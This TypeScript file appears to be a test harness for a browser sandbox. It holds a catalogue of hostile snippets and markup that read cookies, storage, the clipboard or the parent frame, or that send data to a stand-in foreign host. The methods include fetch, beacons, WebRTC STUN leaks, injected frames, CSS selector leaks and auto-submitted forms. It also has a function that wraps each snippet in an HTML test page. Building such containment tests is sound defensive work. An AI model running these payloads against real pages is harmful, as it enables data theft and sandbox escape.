/** Artifacts that mean harm. Each tries one thing, and tells what it got; nothing it can get is worth telling. */

/** A script that tries something. `F`: a foreign host. `O`: our own. What it gives or throws is told. */
interface Attack {
  name: string;
  script?: string;
  markup?: string;
}

/** What must not be read. */
export const READS: Attack[] = Object.entries({
  cookie: "document.cookie",
  "setting a cookie": "(document.cookie = 'a=b', document.cookie)",
  localStorage: "localStorage.getItem('secret')",
  sessionStorage: "sessionStorage.getItem('secret')",
  indexedDB: "await new Promise((done, broken) => { const r = indexedDB.open('x'); r.onsuccess = () => done('opened'); r.onerror = () => broken(r.error); })",
  caches: "await caches.keys()",
  "file system": "await navigator.storage.getDirectory()",
  cookieStore: "await cookieStore.getAll()",
  "service worker": "await navigator.serviceWorker.register('/rt/x.js')",
  "parent's document": "parent.document.title",
  "top's document": "top.document.cookie",
  "parent's storage": "parent.localStorage.length",
  "parent's address": "parent.location.href",
  "parent's name": "parent.secret",
  "storage access": "(await document.requestStorageAccess(), document.cookie)",
  referrer: "document.referrer || Promise.reject('empty')",
  clipboard: "await navigator.clipboard.readText()",
  camera: "await navigator.mediaDevices.getUserMedia({ video: true })",
  place: "await new Promise((done, broken) => navigator.geolocation.getCurrentPosition(done, broken))",
  notifications: "(await Notification.requestPermission()) === 'granted' || Promise.reject('denied')",
}).map(([name, script]) => ({ name, script }));

/** What must not be sent. */
export const SENDS: Attack[] = [
  ...Object.entries({
    fetch: "await fetch(F)",
    "fetch of ours": "await (await fetch(O + '/api/v1/users/me', { credentials: 'include' })).text()",
    "fetch without cors": "await fetch(F, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    fetchLater: "fetchLater(F, { activateAfter: 0 }).activated",
    xhr: "await new Promise((done, broken) => { const r = new XMLHttpRequest(); r.open('GET', F); r.onload = done; r.onerror = () => broken('error'); r.send(); })",
    beacon: "navigator.sendBeacon(F, 'x')",
    websocket: "await new Promise((done, broken) => { const s = new WebSocket(F.replace('http', 'ws')); s.onopen = done; s.onerror = () => broken('error'); })",
    "websocket of ours": "await new Promise((done, broken) => { const s = new WebSocket(O.replace('http', 'ws')); s.onopen = done; s.onerror = () => broken('error'); })",
    eventsource: "await new Promise((done, broken) => { const s = new EventSource(F); s.onopen = done; s.onerror = () => broken('error'); })",
    webtransport: "await new WebTransport(F.replace('http:', 'https:')).ready",
    webrtc: "(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + F.slice(7) }, { urls: 'turn:' + F.slice(7) + '?transport=tcp', username: 'secret', credential: 'x' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); })()",
    "old webrtc": "new webkitRTCPeerConnection({})",
    "webrtc in a frame": "(() => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + RTC + '<\\/script>'; document.body.append(f); return f.contentWindow ? 'framed' : Promise.reject('none'); })()",
    "webrtc in written markup": "(document.body.insertAdjacentHTML('beforeend', '<if' + 'rame srcdoc=\"<script>' + RTC.replaceAll('\"', '&quot;') + '<\\/script>\"></if' + 'rame>'), document.querySelector('iframe') ? 'framed' : Promise.reject('none'))",
    "a frame by namespace": "(document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe')), (document.body.lastChild.src = F), document.querySelector('iframe') || frames.length ? 'framed' : Promise.reject('none'))",
    "a frame parsed": "(document.body.append(document.adoptNode(new DOMParser().parseFromString(`<iframe src='${F}'></iframe>`, 'text/html').body)), frames.length ? 'framed' : Promise.reject('none'))",
    "a frame parsed as xml": "(document.body.append(document.adoptNode(new DOMParser().parseFromString(`<!DOCTYPE h [<!ENTITY e '&#60;iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"${F}\"/&#62;'>]><h>&e;</h>`, 'application/xhtml+xml').documentElement)), frames.length ? 'framed' : Promise.reject('none'))",
    "a frame by a fragment": "(document.body.append(document.createRange().createContextualFragment(`<iframe src='${F}'></iframe>`)), frames.length ? 'framed' : Promise.reject('none'))",
    "a frame in a template": "(() => { const t = document.createElement('template'); t.innerHTML = `<iframe src='${F}'></iframe>`; document.body.append(t.content); return frames.length ? 'framed' : Promise.reject('none'); })()",
    "a frame in a shadow": "(() => { const d = document.createElement('div'); d.attachShadow({ mode: 'open' }).setHTMLUnsafe(`<iframe src='${F}'></iframe>`); document.body.append(d); return frames.length ? 'framed' : Promise.reject('none'); })()",
    "a frame that changes its name": "(() => { let n = 0; document.body.append(document.createElement({ toString: () => (n++ ? 'iframe' : 'div') })); return frames.length ? 'framed' : Promise.reject('none'); })()",
    "a frame built in": "(() => { customElements.define('x-f', class extends HTMLIFrameElement {}, { extends: 'iframe' }); document.body.append(document.createElement('div', { is: 'x-f' })); return frames.length ? 'framed' : Promise.reject('none'); })()",
    "a frame in another document": "(document.body.append(document.adoptNode(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement)), frames.length ? 'framed' : Promise.reject('none'))",
    image: "await new Promise((done, broken) => { const i = new Image(); i.onload = done; i.onerror = () => broken('error'); i.src = F + '/i.png'; })",
    "image of ours": "await new Promise((done, broken) => { const i = new Image(); i.onload = () => done('read'); i.onerror = () => broken('error'); i.src = O + '/favicon.svg'; })",
    font: "await new FontFace('x', `url(${F}/f.woff2)`).load()",
    script: "await new Promise((done, broken) => { const s = document.createElement('script'); s.onload = done; s.onerror = () => broken('error'); s.src = F + '/s.js'; document.head.append(s); })",
    "import of an address": "await import(F + '/m.js')",
    "import of ours": "await import(O + '/pkg/dev/vertice.js')",
    worker: "await new Promise((done, broken) => { const w = new Worker(F + '/w.js'); w.onmessage = done; w.onerror = () => broken('error'); })",
    "blob worker": "await new Promise((done, broken) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('ran'); w.onerror = () => broken('error'); })",
    "shared worker": "await new Promise((done, broken) => { const w = new SharedWorker('data:text/javascript,1'); w.onerror = () => broken('error'); })",
    "window.open": "window.open(F) || Promise.reject('null')",
    "preconnect by script": "(() => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = F; document.head.append(l); return l.relList ? 'linked' : Promise.reject('none'); })()",
    "a style sheet's import": "(() => { const s = document.createElement('style'); s.textContent = `@import url(${F}/c.css);`; document.head.append(s); return Promise.reject('asked'); })()",
    "audio worklet": "await new AudioContext().audioWorklet.addModule(F + '/a.js')",
    "speculation rules": "(() => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [F] }], prerender: [{ urls: [F] }] }); document.head.append(s); return Promise.reject('asked'); })()",
    eval: "eval('1 + 1') === 2 && Promise.reject('allowed, and of no use')",
  }).map(([name, script]) => ({ name, script })),
  ...Object.entries({
    preconnect: "<link rel=preconnect href='F'>",
    "dns-prefetch": "<link rel=dns-prefetch href='F'>",
    prefetch: "<link rel=prefetch href='F/p'>",
    preload: "<link rel=preload as=script href='F/p.js'>",
    modulepreload: "<link rel=modulepreload href='F/p.js'>",
    stylesheet: "<link rel=stylesheet href='F/c.css'>",
    manifest: "<link rel=manifest href='F/m.json'>",
    icon: "<link rel=icon href='F/i.png'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=F/r'>",
    "meta policy": "<meta http-equiv=content-security-policy content=\"img-src *; connect-src *\"><img src='F/i.png'>",
    base: "<base href='F/'><img src=i.png><script src=s.js></script>",
    frame: "<iframe src='F/f'></iframe><iframe sandbox='allow-same-origin allow-scripts allow-top-navigation' src='F/g'></iframe>",
    object: "<object data='F/o'></object><embed src='F/e'>",
    frameset: "<frameset><frame src='F/f'></frameset>",
    pictures: "<img srcset='F/a.png 2x'><picture><source srcset='F/b.png'><img></picture><video poster='F/c.png' src='F/d.mp4' autoplay></video><audio src='F/e.mp3' autoplay></audio><video><track default src='F/t.vtt'></video><input type=image src='F/f.png'><table background='F/g.png'></table>",
    "svg pictures": "<svg><image href='F/a.png'/><use href='F/b.svg#x'/><filter id=f><feImage href='F/c.png'/></filter><script href='F/d.js'></script><rect filter='url(#f)' width=9 height=9 /><foreignObject><iframe src='F/e'></iframe></foreignObject></svg>",
    "css addresses": "<style>@font-face{font-family:x;src:url(F/a)}body{font-family:x;background:url(F/b);cursor:url(F/c),auto;list-style:url(F/d);mask:url(F/e);border-image:url(F/f);content:image-set('F/g' 1x)}a{filter:url(F/h#x)}input[value^=s]{background:url(F/leak)}</style><input value=secret><a>x</a>",
    form: "<form id=g action='F/form' method=post><input name=a value=secret></form><form id=h target=_top action='F/top'></form><script>g.submit(); h.submit()</script>",
    "link to the top": "<a id=k target=_top href='F/k' ping='F/ping'>x</a><script>k.click()</script>",
    "a script of the top": "<script>try { top.location = 'F/t' } catch (error) { console.log(error.name) }</script>",
    download: "<a id=d download href='data:text/plain,x'>x</a><script>d.click()</script>",
  }).map(([name, markup]) => ({ name, markup })),
];

/** Ways to lead the frame itself away: a name is looked up and a connection made, but nothing is asked for. */
export const LEAVES: Record<string, string> = {
  "location.href": "location.href = F + '/secret'",
  "location.replace": "location.replace(F + '/secret')",
  navigation: "navigation.navigate(F + '/secret')",
  "window.open on itself": "window.open(F + '/secret', '_self')",
  "a page of ours": "location.href = O + '/'",
  reload: "location.reload()",
};

/** A page that connects to `at` by each of the ways that only a prelude or a newer browser stops: nothing else would be a proof. */
export const control = (at: string) => `<link rel=preconnect href="${at.replace("//", "//ahead.")}"><script>
const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${at.slice(7)}" }] });
c.createDataChannel("x");
c.createOffer().then((offer) => c.setLocalDescription(offer));
new Image().src = "${at}/control";
</script>`;

/** The artifact of an attack. It says "tried" when it has. */
export function artifact(attack: Attack, foreign: string, ours: string): string {
  const rtc = `const c=new RTCPeerConnection({iceServers:[{urls:"stun:${foreign.slice(7)}"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))`;
  const names = `const F = ${JSON.stringify(foreign)}, O = ${JSON.stringify(ours)}, RTC = ${JSON.stringify(rtc)};`;
  const markup = (attack.markup ?? "").replaceAll(/'F|F\//g, (found) => found.replace("F", foreign)).replaceAll("(F/", `(${foreign}/`);
  const body = attack.script ? `try { got = await (${attack.script}) } catch (error) { refused = String(error?.name ?? error) || "refused" }` : "refused = 'markup'";
  return `<!doctype html><body>${markup}<script>${names}
addEventListener("load", async () => {
  let got, refused;
  const soon = new Promise((done) => setTimeout(done, 700));
  await Promise.race([(async () => { ${body} })(), soon]);
  await soon;
  console.log("tried " + JSON.stringify({ got: String(got), refused: refused ?? null }));
});
</script>`;
}
